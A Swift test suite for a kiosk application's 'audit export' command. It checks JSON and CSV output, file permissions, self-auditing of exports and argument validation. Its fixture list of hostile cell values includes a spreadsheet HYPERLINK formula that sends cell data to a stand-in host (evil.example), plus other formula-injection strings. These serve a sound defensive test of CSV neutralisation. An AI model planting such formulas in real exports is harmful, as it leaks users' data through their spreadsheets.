import Foundation
import KioskCore
import Testing

@testable import KioskApp

/// `kiosk audit export`, run as the real built binary against a real database file.
@Suite struct AuditExportCommandTests {
    static let shanghai = ["TZ": "Asia/Shanghai", "LANG": "C.UTF-8", "PATH": "/usr/bin:/bin"]

    /// A state directory with three events on 14, 15 and 16 January 2027 (Beijing time).
    static func seededState() async throws -> URL {
        let directory = try OpsFixtures.temporaryDirectory()
        let database = try AppDatabase.open(directory: directory.path)
        let times: [TimeInterval] = [1_800_000_000 - 86_400, 1_800_000_000, 1_800_000_000 + 86_400]
        for (index, time) in times.enumerated() {
            try await database.recordAudit(
                AuditEvent(
                    time: Date(timeIntervalSince1970: time), terminalId: "T-01", event: "session.started",
                    outcome: "success", subject: "110***********123X", detail: "n=\(index)"))
        }
        return directory
    }

    @Test func exportsJSONSinceADayToAPrivateFile() async throws {
        let state = try await Self.seededState()
        defer { try? FileManager.default.removeItem(at: state) }
        let output = state.appendingPathComponent("audit.json")
        // An existing world-readable file is replaced (with --force) by a 0600 one.
        _ = FileManager.default.createFile(
            atPath: output.path, contents: Data("old".utf8), attributes: [.posixPermissions: 0o644])

        let result = try await OpsFixtures.run(
            OpsFixtures.kioskBinary,
            [
                "audit", "export", "--state-directory", state.path, "--since", "2027-01-15", "--format", "json",
                "--output", output.path, "--force", "--terminal-id", "T-01",
            ], environment: Self.shanghai)
        #expect(result.status == 0, "\(result.stderr)")
        #expect(result.stdout.isEmpty)

        let mode = try FileManager.default.attributesOfItem(atPath: output.path)[.posixPermissions] as? NSNumber
        #expect(mode?.intValue == 0o600)
        let rows = try #require(try JSONSerialization.jsonObject(with: Data(contentsOf: output)) as? [[String: Any]])
        #expect(rows.compactMap { $0["detail"] as? String } == ["n=1", "n=2"])
        #expect(rows.first?["time"] as? String == "2027-01-15T16:00:00.000+08:00")
        #expect(rows.first?["subject"] as? String == "110***********123X")

        // The export is itself audited.
        let database = try AppDatabase.open(directory: state.path)
        let last = try #require(try await database.auditEvents().last { $0.event == "audit.exported" })
        #expect(last.event == "audit.exported")
        #expect(last.terminalId == "T-01")
        #expect(last.detail == "rows=2 format=json since=2027-01-15")
    }

    @Test func exportsCSVToStandardOutput() async throws {
        let state = try await Self.seededState()
        defer { try? FileManager.default.removeItem(at: state) }
        let result = try await OpsFixtures.run(
            OpsFixtures.kioskBinary, ["audit", "export", "--state-directory", state.path], environment: Self.shanghai)
        #expect(result.status == 0, "\(result.stderr)")
        let lines = result.stdout.components(separatedBy: "\r\n").filter { !$0.isEmpty }
        #expect(lines.first == "id,time,terminalId,event,outcome,subject,detail")
        #expect(lines.count == 4)
        #expect(lines[1].hasSuffix(",T-01,session.started,success,110***********123X,n=0"))
    }

    /// Subjects and details a spreadsheet would run, or that would break a naive CSV line.
    static let hostile = [
        "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"点击\")", "+1", "-2+3", "@SUM(A1:A2)", "\t=1", "\r=1",
        "他说\"好\"", "第一行\r\n=1+1", "北京市东城区,东四北大街",
    ]

    @Test func csvNeutralisesFormulasAndQuotesHostileCells() async throws {
        let state = try OpsFixtures.temporaryDirectory()
        defer { try? FileManager.default.removeItem(at: state) }
        let database = try AppDatabase.open(directory: state.path)
        for (index, text) in Self.hostile.enumerated() {
            try await database.recordAudit(
                AuditEvent(
                    time: Date(timeIntervalSince1970: 1_800_000_000 + Double(index)), terminalId: "T-01",
                    event: "odd", outcome: "success", subject: text, detail: text))
        }
        let result = try await OpsFixtures.run(
            OpsFixtures.kioskBinary, ["audit", "export", "--state-directory", state.path], environment: Self.shanghai)
        #expect(result.status == 0, "\(result.stderr)")
        let records = CSVRecords.parse(result.stdout)
        #expect(records.count == Self.hostile.count + 1, "\(result.stdout)")
        #expect(records.allSatisfy { $0.count == AuditExport.columns.count }, "\(records)")
        for (record, text) in zip(records.dropFirst(), Self.hostile) {
            let written = CSVRecords.isFormula(text) ? "'" + text : text
            #expect(record[5] == written && record[6] == written, "\(record)")
        }
        #expect(!records.joined().contains(where: CSVRecords.isFormula), "\(records)")
    }

    @Test func rejectsABadDateAndFormat() async throws {
        let state = try OpsFixtures.temporaryDirectory()
        defer { try? FileManager.default.removeItem(at: state) }
        for arguments in [["--since", "15/01/2027"], ["--format", "xml"]] {
            let result = try await OpsFixtures.run(
                OpsFixtures.kioskBinary, ["audit", "export", "--state-directory", state.path] + arguments)
            #expect(result.status == 64, "\(arguments): \(result.stderr)")
        }
    }
}
